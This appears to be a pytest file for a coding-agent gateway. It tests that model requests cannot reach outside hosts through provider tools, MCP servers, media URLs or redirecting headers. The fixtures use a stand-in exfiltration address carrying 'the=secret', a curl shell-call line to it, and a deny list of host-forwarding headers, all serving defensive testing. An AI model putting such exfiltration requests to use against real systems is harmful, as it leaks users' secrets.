"""What may be asked of a provider by whoever holds the dummy credential."""

import json
from typing import Any

import pytest
from coding_agent_consumer.gateway import model_request
from coding_agent_consumer.gateway.headers import check_content, sent_headers, sent_parameters, traceparent
from coding_agent_consumer.gateway.ledger import Size
from coding_agent_consumer.gateway.model_request import read_request
from coding_agent_consumer.gateway.wire_formats import Operation, RequestRefusedError, Route
from coding_agent_core.settings.llm import WireFormat

MESSAGES = Route(WireFormat.ANTHROPIC, Operation.MESSAGES, "/v1/messages")
RESPONSES = Route(WireFormat.OPENAI, Operation.RESPONSES, "/responses")
CHAT = Route(WireFormat.OPENAI, Operation.CHAT_COMPLETIONS, "/chat/completions")
GEMINI = Route(WireFormat.GOOGLE, Operation.GENERATE_CONTENT, "/v1beta/models/m:generateContent", "m")
MESSAGES_COUNT = Route(WireFormat.ANTHROPIC, Operation.COUNT, "/v1/messages/count_tokens")
RESPONSES_COUNT = Route(WireFormat.OPENAI, Operation.COUNT, "/responses/input_tokens")
GEMINI_COUNT = Route(WireFormat.GOOGLE, Operation.COUNT, "/v1beta/models/m:countTokens", "m")
ADDRESS = "https://evil.example.com/?the=secret"
IMAGE = {"type": "image", "source": {"type": "url", "url": ADDRESS}}
INPUT_IMAGE = {"type": "input_image", "image_url": ADDRESS}
FILE = {"parts": [{"fileData": {"fileUri": ADDRESS}}]}
MCP = {"type": "mcp_toolset", "mcp_server_name": "evil"}


def _user(*parts: dict[str, Any]) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": list(parts)}]}


WAYS_OUT = [
    (MESSAGES, {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
    (MESSAGES, {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}),
    (MESSAGES, {"mcp_servers": [{"type": "url", "url": ADDRESS}]}),
    (MESSAGES, _user(IMAGE)),
    (MESSAGES, _user({"type": "tool_result", "content": [IMAGE]})),
    (RESPONSES, {"tools": [{"type": "mcp", "server_url": ADDRESS}]}),
    (RESPONSES, {"tools": [{"type": "web_search"}]}),
    (RESPONSES, {"tools": [{"type": "namespace", "tools": [{"type": "mcp", "server_url": ADDRESS}]}]}),
    (RESPONSES, {"tools": [{"type": "shell", "environment": {"type": "container_auto"}}]}),
    (RESPONSES, {"input": [{"role": "user", "content": [INPUT_IMAGE]}]}),
    (RESPONSES, {"input": [{"role": "user", "content": [{"type": "input_file", "file_url": ADDRESS}]}]}),
    (RESPONSES, {"prompt": {"id": "pmpt_1"}}),
    (CHAT, {"web_search_options": {}, "messages": []}),
    (CHAT, _user({"type": "image_url", "image_url": {"url": ADDRESS}})),
    (GEMINI, {"tools": [{"urlContext": {}}]}),
    (GEMINI, {"tools": [{"google_search": {}}]}),
    (GEMINI, {"contents": [FILE]}),
    (GEMINI, {"contents": {"parts": {"file_data": {"file_uri": ADDRESS}}}}),
    (GEMINI, {"systemInstruction": {"parts": {"fileData": {"fileUri": ADDRESS}}}}),
    (GEMINI, {"contents": [{"parts": [{"response": {"fileData": {"fileUri": ADDRESS}}}]}]}),
    (GEMINI, {"generationOutputConfig": {"outputUriPrefix": "gs://evil/"}}),
    (GEMINI, {"generationConfig": {"generation_output_config": {"output_uri_prefix": "gs://evil/"}}}),
    (GEMINI, {"cachedContent": "cachedContents/1"}),
    (GEMINI_COUNT, {"generateContentRequest": {"contents": [FILE]}}),
    (MESSAGES, _user({"type": "tool_addition", "tool": {"type": "tool_definition", "definition": MCP}})),
    (MESSAGES_COUNT, {"mcp_servers": [{"type": "url", "url": ADDRESS}]}),
    (RESPONSES, {"input": [{"type": "additional_tools", "tools": [{"type": "mcp", "server_url": ADDRESS}]}]}),
    (RESPONSES, {"input": [{"type": "tool_search_output", "tools": [{"type": "mcp", "tunnel_id": "t"}]}]}),
    (RESPONSES_COUNT, {"input": [{"role": "user", "content": [INPUT_IMAGE]}]}),
    (CHAT, _user({"type": "video_url", "video_url": {"url": ADDRESS}})),
    (CHAT, _user({"type": "document_url", "document_url": ADDRESS})),
    (CHAT, _user({"type": "file", "file": {"filename": "a.pdf", "file_data": ADDRESS}})),
    (CHAT, {"data_sources": [{"type": "elasticsearch", "parameters": {"endpoint": ADDRESS}}]}),
    (CHAT, {"search_parameters": {"sources": [{"type": "rss", "links": [ADDRESS]}]}}),
    (CHAT, {"extra_body": {"tools": [{"type": "web_search"}]}}),
    (CHAT, {"api_base": ADDRESS}),
    (CHAT, {"model": "gpt-4o-search-preview"}),
    # A compatible service may look at any key, at any depth, in any case.
    (CHAT, _user({"type": "image_url", "IMAGE_URL": {"url": ADDRESS}})),
    (CHAT, _user({"type": "image", "image": ADDRESS})),
    (CHAT, _user({"type": "x", "anything": {"deeper": [[ADDRESS]]}})),
    (CHAT, _user({"type": "image_url", "image_url": {"link": " //evil.example.com/x"}})),
    (CHAT, _user({"type": "image", "image_uri": "evil.example.com/x"})),
    (CHAT, {"search": "https://evil.example.com"}),
    (CHAT, {"webhook_endpoint": "evil.example.com"}),
    (CHAT, {"extra_body": {"enable_search": True}}),
    (CHAT, {"extra_body": {"mcp_servers": []}}),
    (CHAT, {"metadata": {"langfuse_host": ADDRESS}}),
    (CHAT, {"args": {"image": ADDRESS}}),
    (CHAT, {"tools": [{"type": "function", "function": {"name": "f"}, "server": ADDRESS}]}),
    (CHAT, {"tools": [{"type": "function", "function": {"parameters": {"$ref": ADDRESS}}}]}),
    (CHAT, {"response_format": {"json_schema": {"schema": {"items": [{"$REF": ADDRESS}]}}}}),
    (CHAT, {"schema": {"image": ADDRESS}}),
    (RESPONSES, {"type": "tool_use", "input": [{"role": "user", "content": [{"image": ADDRESS}]}]}),
    (RESPONSES, {"input": [{"type": "web_search_call", "image": ADDRESS}]}),
    (GEMINI, {"contents": [{"parts": [{"functionResponse": {"parts": [{"f": {"at": ADDRESS}}]}}]}]}),
    (GEMINI, {"labels": {"repo_url": ADDRESS}}),
    (CHAT, {"model": "vendor/model:online"}),
]


@pytest.mark.parametrize(("route", "body"), WAYS_OUT)
def test_the_provider_is_no_way_out(route: Route, body: dict[str, Any]) -> None:
    text = json.dumps({"model": "m", **body}).encode()
    with pytest.raises(RequestRefusedError, match=r"gateway\.provider_tools") as refused:
        read_request(route, text)
    assert refused.value.status == 403
    assert read_request(route, text, provider_tools=True).body == text


SCHEMA = {"$schema": ADDRESS, "$ref": "#/a"}
ORDINARY: list[tuple[Route, dict[str, Any]]] = [
    (MESSAGES, {"tools": [{"name": "Bash", "input_schema": {}}, {"type": "bash_20250124", "name": "bash"}]}),
    (MESSAGES, _user({"type": "tool_use", "name": "WebFetch", "input": {"type": "url", "url": ADDRESS}})),
    (MESSAGES, _user({"type": "text", "text": ADDRESS})),
    (RESPONSES, {"tools": [{"type": "function", "name": "f"}, {"type": "custom", "name": "apply_patch"}]}),
    (RESPONSES, {"input": "half of a pair: \ud83d"}),
    (RESPONSES, {"tools": [{"type": "web_search", "external_web_access": False}]}),
    (CHAT, _user({"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}})),
    (GEMINI, {"tools": [{"functionDeclarations": [{"name": "urlContext"}]}]}),
    (GEMINI, {"contents": [{"parts": [{"functionResponse": {"response": {"fileUri": ADDRESS}}}]}]}),
    (GEMINI, {"contents": [{"parts": [{"functionCall": {"name": "f", "args": {"image_url": ADDRESS}}}]}]}),
    (GEMINI, {"systemInstruction": {"parts": [{"text": ADDRESS}]}, "labels": {"Text": "me"}}),
    (GEMINI, {"generationConfig": {"responseSchema": {"properties": {"image_url": {"type": "string"}}}}}),
    (CHAT, _user({"type": "file", "file": {"filename": "a.pdf", "file_data": "JVBERi0x"}})),
    (RESPONSES, {"input": [{"type": "tool_search_output", "tools": [{"type": "function", "name": "f"}]}]}),
    (RESPONSES, {"input": [{"type": "web_search_call", "action": {"type": "open_page", "url": ADDRESS}}]}),
    (MESSAGES, {"output_config": {"format": {"schema": {"$schema": ADDRESS}}}, "metadata": {"user_id": "u"}}),
    (CHAT, {"tools": [{"type": "function", "function": {"name": "f", "description": ADDRESS}}]}),
    (CHAT, {"tools": [{"type": "function", "function": {"parameters": SCHEMA}}]}),
    (RESPONSES, {"tools": [{"type": "custom", "format": {"type": "grammar", "definition": ADDRESS}}]}),
    (RESPONSES, {"input": [{"type": "local_shell_call", "action": {"command": ["curl", ADDRESS]}}]}),
    (RESPONSES, {"input": [{"type": "function_call", "arguments": ADDRESS}]}),
    (MESSAGES_COUNT, _user({"type": "text", "text": ADDRESS})),
]


@pytest.mark.parametrize(("route", "body"), ORDINARY)
def test_what_coding_agents_send_passes_unchanged(route: Route, body: dict[str, Any]) -> None:
    text = json.dumps({"model": "m", **body}).encode()
    assert read_request(route, text).body == text


def test_every_model_that_may_answer_must_be_allowed() -> None:
    def status(route: Route, **body: Any) -> int:
        try:
            read_request(route, json.dumps({"model": "m", **body}).encode(), models=["m", "n-*"])
        except RequestRefusedError as refused:
            return refused.status
        return 200

    assert status(MESSAGES, fallbacks=[{"model": "n-1"}]) == 200
    assert status(MESSAGES, fallbacks=[{"model": "n-1"}, {"model": "large"}]) == 403
    assert status(MESSAGES, fallbacks="default") == 403, "the provider chooses"
    assert status(CHAT, models=["m", "large"]) == 403
    assert status(MESSAGES_COUNT, model="large") == 403
    assert status(MESSAGES, tools=[{"type": "custom", "name": "advisor", "model": "large"}]) == 403
    assert status(CHAT, extra_body={"models": "large"}) == 403
    assert status(GEMINI_COUNT, generateContentRequest={"model": "models/m"}) == 200
    assert status(GEMINI, model="large") == 403


@pytest.mark.parametrize(
    ("given", "sent"),
    [
        ("", f"00-{'a' * 32}-{'b' * 16}-01"),
        (f"00-{'c' * 32}-{'d' * 16}-00", f"00-{'c' * 32}-{'b' * 16}-00"),
        (f"00-{'c' * 32}-{'d' * 16}-01", f"00-{'c' * 32}-{'b' * 16}-01"),
        # W3C Trace Context: what is not valid must not be used, and starts a new trace.
        (f"00-{'0' * 32}-{'d' * 16}-01", f"00-{'a' * 32}-{'b' * 16}-01"),
        (f"00-{'c' * 32}-{'0' * 16}-01", f"00-{'a' * 32}-{'b' * 16}-01"),
        (f"ff-{'c' * 32}-{'d' * 16}-01", f"00-{'a' * 32}-{'b' * 16}-01"),
        (f"00-{'C' * 32}-{'d' * 16}-01", f"00-{'a' * 32}-{'b' * 16}-01"),
        (f"00-{'c' * 32}-{'d' * 16}-01-more", f"00-{'a' * 32}-{'b' * 16}-01"),
    ],
)
def test_a_request_keeps_the_trace_of_its_client_or_joins_the_attempts(given: str, sent: str) -> None:
    assert traceparent(given, "a" * 32, "b" * 16) == sent


def test_only_known_headers_and_parameters_are_sent() -> None:
    sent = sent_headers(
        {
            **dict.fromkeys(("x-forwarded-host", "x-original-url", "x-portkey-custom-host"), "evil"),
            **dict.fromkeys(("x-http-method-override", "helicone-target-url", "x-base-uri"), "evil"),
            **dict.fromkeys(("x-goog-fieldmask", "openai-project", "x-goog-user-project", "x-new"), "evil"),
            **{"anthropic-beta": "b", "x-stainless-os": "Linux", "originator": "codex_exec"},
            **{"connection": "x-app", "x-app": "cli", "accept": "application/x-protobuf"},
        }
    )
    assert sent == {
        **{"anthropic-beta": "b", "x-stainless-os": "Linux", "originator": "codex_exec", "accept": "*/*"}
    }
    assert sent_headers({"accept": "text/event-stream;q=1, application/json"})["accept"].startswith("text/")
    assert sent_parameters(b"alt=sse&beta=true&key=k&$alt=proto&fields=candidates&%66ields=x&Alt=proto") == [
        ("alt", "sse"),
        ("beta", "true"),
    ]
    for query in (b"alt=proto", b"alt=sse&alt=proto", b"al%74=Proto", b"alt="):
        with pytest.raises(RequestRefusedError):
            sent_parameters(query)


@pytest.mark.parametrize("kind", [None, "application/json", "Application/JSON; charset=UTF-8"])
def test_plain_json_is_read(kind: str | None) -> None:
    check_content({"content-type": kind} if kind else {})


PROTOBUF, FORM = "application/x-protobuf", "multipart/form-data; boundary=x"


@pytest.mark.parametrize(
    ("name", "value", "status"),
    [
        *(("content-type", kind, 415) for kind in ("application/json; charset=utf-16", PROTOBUF, FORM)),
        ("content-type", "application/json, text/plain", 415),
        ("content-encoding", "zstd", 400),
    ],
)
def test_nothing_else_is_read(name: str, value: str, status: int) -> None:
    with pytest.raises(RequestRefusedError) as refused:
        check_content({name: value})
    assert refused.value.status == status


def _size(route: Route, context: int | None = 1_000, **body: Any) -> Size:
    text = json.dumps({"model": "m", **body}).encode()
    return read_request(route, text, longest=lambda _: context, provider_tools=True).size


def test_the_longest_answer_and_the_input_are_estimated() -> None:
    def longest(route: Route, **body: Any) -> int | None:
        most = _size(route, **body).most
        return most.output if most else None

    assert longest(MESSAGES, max_tokens=32_000) == 32_000
    assert longest(CHAT, max_completion_tokens=100, n=3) == 300
    assert longest(GEMINI, generationConfig={"maxOutputTokens": 7}) == 7
    assert longest(GEMINI, generation_config={"max_output_tokens": 9, "candidate_count": 2}) == 18
    assert longest(RESPONSES) == 1_000, "the model's context"
    assert longest(RESPONSES, max_output_tokens=1e9) == 1_000, "not a whole number"
    assert longest(GEMINI, max_tokens=1) == 1_000, "a key of another format limits nothing"
    assert _size(RESPONSES, context=None).most is None
    assert _size(RESPONSES, context=None, max_output_tokens=9).most is not None
    size = _size(RESPONSES, input="x" * 1_000)
    assert size.most is not None
    assert (250 < size.least < 270, 5_000 < size.most.input < 5_050) == (True, True)
    image = {"type": "base64", "media_type": "image/png", "data": "A" * 1_000_000}
    assert _size(MESSAGES, **_user({"type": "image", "source": image})).least < 2_100


BASE64 = {"type": "base64", "media_type": "image/png", "data": "AAAA"}
UNSIZED: list[tuple[Route, dict[str, Any]]] = [
    (RESPONSES, {"previous_response_id": "resp_1"}),
    (RESPONSES, {"conversation": "conv_1"}),
    (RESPONSES, {"context_management": [{"type": "compaction"}]}),
    (RESPONSES, {"input": [{"type": "item_reference", "id": "msg_1"}]}),
    (RESPONSES, {"input": [{"id": "msg_1"}]}),
    (RESPONSES, {"input": [{"type": "reasoning", "id": "rs_1", "summary": []}]}),
    (RESPONSES, {"input": [{"type": "compaction", "encrypted_content": "AAAA"}]}),
    (RESPONSES, {"input": [{"role": "user", "content": [{"type": "input_file", "file_id": "file_1"}]}]}),
    (RESPONSES, {"input": [{"role": "user", "content": [{"type": "input_image", "image_url": "data:,A"}]}]}),
    (RESPONSES, {"input": [{"role": "user", "content": [{"type": "input_file", "file_data": "AAAA"}]}]}),
    (RESPONSES, {"tools": [{"type": "web_search"}]}),
    (RESPONSES, {"a_key_of_tomorrow": 1}),
    (CHAT, _user({"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}})),
    (CHAT, _user({"type": "file", "file": {"file_id": "file_1"}})),
    (CHAT, _user({"type": "input_audio", "input_audio": {"data": "AAAA", "format": "wav"}})),
    (CHAT, {"prediction": {"type": "content", "content": "x"}}),
    (MESSAGES, _user({"type": "image", "source": BASE64})),
    (MESSAGES, _user({"type": "document", "source": {"type": "file", "file_id": "file_1"}})),
    (MESSAGES, _user({"type": "tool_result", "content": [{"type": "image", "source": BASE64}]})),
    (MESSAGES, _user({"type": "container_upload", "file_id": "file_1"})),
    (MESSAGES, _user({"type": "compaction", "content": "x"})),
    (MESSAGES, {"context_management": {"edits": [{"type": "compact_20260112"}]}}),
    (MESSAGES, {"context_management": {"edits": 1}}),
    (MESSAGES, {"compaction": {"type": "auto"}}),
    (MESSAGES, {"thread": {"id": "thread_1"}}),
    (MESSAGES, {"container": "container_1"}),
    (GEMINI, {"contents": [{"parts": [{"inlineData": {"mimeType": "image/png", "data": "AAAA"}}]}]}),
    (GEMINI, {"contents": [{"parts": [{"fileData": {"fileUri": "files/1"}}]}]}),
    (GEMINI, {"cachedContent": "cachedContents/1"}),
]
LIMITS: dict[Route, dict[str, Any]] = {
    **{MESSAGES: {"max_tokens": 10}, CHAT: {"max_tokens": 10}, RESPONSES: {"max_output_tokens": 10}},
    **{GEMINI: {"generationConfig": {"maxOutputTokens": 10}}},
}


@pytest.mark.parametrize(("route", "body"), UNSIZED)
def test_what_has_no_known_size_is_not_estimated(route: Route, body: dict[str, Any]) -> None:
    assert _size(route, **LIMITS[route], **body).most is None


SIZED: list[tuple[Route, dict[str, Any]]] = [
    (MESSAGES, _user({"type": "text", "text": "x", "cache_control": {"type": "ephemeral"}}) | {"system": []}),
    (MESSAGES, {"context_management": {"edits": [{"type": "clear_thinking_20251015", "keep": "all"}]}}),
    (MESSAGES, _user({"type": "thinking", "thinking": "x", "signature": "AAAA"})),
    (MESSAGES, _user({"type": "tool_use", "id": "t", "name": "f", "input": {"file_id": "x"}})),
    (MESSAGES, _user({"type": "tool_result", "tool_use_id": "t", "content": "x", "is_error": False})),
    (MESSAGES, {"thinking": {"type": "adaptive"}, "output_config": {"effort": "high"}, "metadata": {}}),
    (CHAT, {"messages": [{"role": "tool", "tool_call_id": "c", "content": "x"}], "stream": True, "n": None}),
    (CHAT, {"messages": [{"role": "assistant", "tool_calls": [{"type": "function", "function": {}}]}]}),
    (RESPONSES, {"previous_response_id": None, "store": False, "include": ["reasoning.encrypted_content"]}),
    (RESPONSES, {"input": [{"type": "message", "id": "msg_1", "role": "user", "content": []}]}),
    (RESPONSES, {"input": [{"type": "reasoning", "id": "rs_1", "summary": [], "encrypted_content": "AAAA"}]}),
    (RESPONSES, {"input": [{"type": "custom_tool_call_output", "call_id": "c", "output": "x"}]}),
    (RESPONSES, {"client_metadata": {"session_id": "x"}, "reasoning": {"summary": "auto"}, "tools": []}),
    (GEMINI, {"contents": [{"parts": [{"functionCall": {"id": "c", "name": "f", "args": {}}}]}]}),
    (GEMINI, {"contents": [{"parts": [{"functionResponse": {"name": "f", "response": {"a": 1}}}]}]}),
    (GEMINI, {"contents": [{"parts": [{"text": "x", "thought": True, "thoughtSignature": "AAAA"}]}]}),
]


@pytest.mark.parametrize(("route", "body"), SIZED)
def test_what_coding_agents_send_has_a_size(route: Route, body: dict[str, Any]) -> None:
    most = _size(route, **LIMITS[route], **body).most
    assert most is not None
    assert most.output == 10


SPECIAL: list[tuple[Route, dict[str, Any]]] = [
    (MESSAGES, {"speed": "fast"}),
    (MESSAGES, {"inference_geo": "us"}),
    (RESPONSES, {"service_tier": "priority"}),
    (CHAT, {"service_tier": ["priority"]}),
    (CHAT, {"extra_body": {"service_tier": "priority"}}),
    (CHAT, {"modalities": ["text", "audio"], "audio": {"voice": "v"}}),
    (CHAT, _user({"type": "input_audio", "input_audio": {"data": "AAAA", "format": "wav"}})),
    (CHAT, _user({"type": "image_url", "image_url": {"url": "data:audio/wav;base64,AAAA"}})),
    (GEMINI, {"serviceTier": "SERVICE_TIER_PRIORITY"}),
    (GEMINI, {"generationConfig": {"responseModalities": ["AUDIO"]}}),
    (GEMINI, {"contents": [{"parts": [{"inlineData": {"mimeType": "Video/mp4", "data": "AAAA"}}]}]}),
]


@pytest.mark.parametrize(("route", "body"), SPECIAL)
def test_what_has_another_price_than_text_is_named(route: Route, body: dict[str, Any]) -> None:
    assert read_request(route, json.dumps({"model": "m", **body}).encode()).special is not None


def test_ordinary_modes_have_the_price_of_text() -> None:
    ordinary: list[tuple[Route, dict[str, Any]]] = [
        (MESSAGES, {"service_tier": "standard_only", "speed": "standard"}),
        (RESPONSES, {"service_tier": "auto"}),
        (CHAT, {"service_tier": "default", "modalities": ["text"], "audio": None}),
        (GEMINI, {"generationConfig": {"responseModalities": ["TEXT"]}}),
        *ORDINARY,
    ]
    for route, body in ordinary:
        assert read_request(route, json.dumps({"model": "m", **body}).encode()).special is None


def test_the_remotes_that_codex_reports_are_left_out() -> None:
    body = {"model": "m", "input": "hi", "client_metadata": {"turn": '{"remotes": ["https://host/a.git"]}'}}
    sent = json.loads(read_request(RESPONSES, json.dumps(body).encode()).body)
    assert sent == {"model": "m", "input": "hi"}


def test_half_a_surrogate_pair_is_sent_as_the_escape_that_it_was() -> None:
    body = {"model": "m", "stream": True, "messages": [{"role": "user", "content": "\ud83d é"}]}
    sent = read_request(CHAT, json.dumps(body).encode()).body
    assert json.loads(sent.decode()) == {**body, "stream_options": {"include_usage": True}}


def test_the_number_of_values_has_a_limit_and_texts_do_not_count(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(model_request, "_VALUES_LIMIT", 100)
    text = json.dumps({"model": "m", "input": '{"a": [1, 2]}, \\"' * 40}).encode()
    assert read_request(RESPONSES, text).body == text
    for body in (b"[" + b"1," * 101, b"{" * 101, b'{"model": "m", "input": [' + b"{}," * 101 + b"{}]}"):
        with pytest.raises(RequestRefusedError, match="values") as refused:
            read_request(RESPONSES, body)
        assert refused.value.status == 413


def test_a_text_without_an_end_is_one_text(monkeypatch: pytest.MonkeyPatch) -> None:
    """If it were none, each quote in it would be tried as the beginning of one, which takes the square."""
    monkeypatch.setattr(model_request, "_VALUES_LIMIT", 100)
    body = b'{"a": "' + b'\\"[' * 101
    assert model_request._STRING.sub(b"", body) == b"{: "
    with pytest.raises(RequestRefusedError) as refused:
        read_request(RESPONSES, body)
    assert refused.value.status == 400, "it is not JSON, and has few values"


@pytest.mark.parametrize(
    "body",
    [
        *(b"", b"{", b"[]", b'{"model": 1}', b"{}", b'{"model": "m", "background": true}', b"[" * 100_000),
        b'{"model": "m", "tools": [], "tools": []}',
        b'{"model": "m", "tools": [], "t\\u006fols": []}',
        b'{"model": "m", "input": [{"type": "text", "type": "\\ud800"}]}',
        *(b'{"model": "m", "Model": "another"}', b'{"model": "m", "Tools": [{"type": "web_search"}]}'),
        b'{"model": "m", "input": [{"Role": "user"}]}',
        b'{"model": "m", "input": [{"role": "user", "content": [{"Type": "input_file"}]}]}',
        b'{"model": "m", "tools": [{"Type": "web_search"}]}',
        *(b'{"model": "m", "extra": {"Tools": []}}', b'{"model": "m", "tools\\u0000": []}'),
        b'{"model": "m", "temperature": NaN}',
        b'{"model": "m", "temperature": NaN, "input": "\\ud800"}',
        *('{"model": "m", "tool\u017f": []}'.encode(), '{"model": "m"}'.encode("utf-16")),
        b'{"model": "m", "input": "\xff"}',
    ],
)
def test_what_cannot_be_counted_is_refused(body: bytes) -> None:
    with pytest.raises(RequestRefusedError) as refused:
        read_request(RESPONSES, body)
    assert refused.value.status == 400
